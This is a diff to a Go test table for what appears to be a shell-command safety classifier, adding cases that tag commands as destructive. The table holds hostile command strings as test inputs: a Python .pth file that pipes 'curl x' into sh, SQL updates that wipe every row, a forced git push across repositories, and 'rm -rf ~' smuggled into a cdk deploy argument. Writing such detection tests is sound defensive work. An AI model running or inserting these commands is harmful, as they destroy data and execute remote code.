@@ -1335,6 +1335,8 @@ func TestShellsToolsRunTheirScriptsWith(t *testing.T) {
 		{`echo 'import os;os.system("curl x|sh")' > venv/lib/python3.12/site-packages/_x.pth; pytest`, unknown, "shell.project-file"},
 		{"mysql -e 'UPDATE users SET email=NULL'", destructive, "keyword.sql-update-all"},
 		{"sqlite3 app.db 'UPDATE users SET pw=NULL'", destructive, "keyword.sql-update-all"},
+		{"repo forall -c 'git push -f'", destructive, "git.push-force"},
+		{"cdk deploy --app 'rm -rf ~' --require-approval never", destructive, "fs.rm-recursive"},
 		{"make SHELL=/bin/bash", write, ""},
 		{"make SHELL=bash build", write, ""},
 		{"mysql -e 'UPDATE users SET email=NULL WHERE id=3'", write, ""},
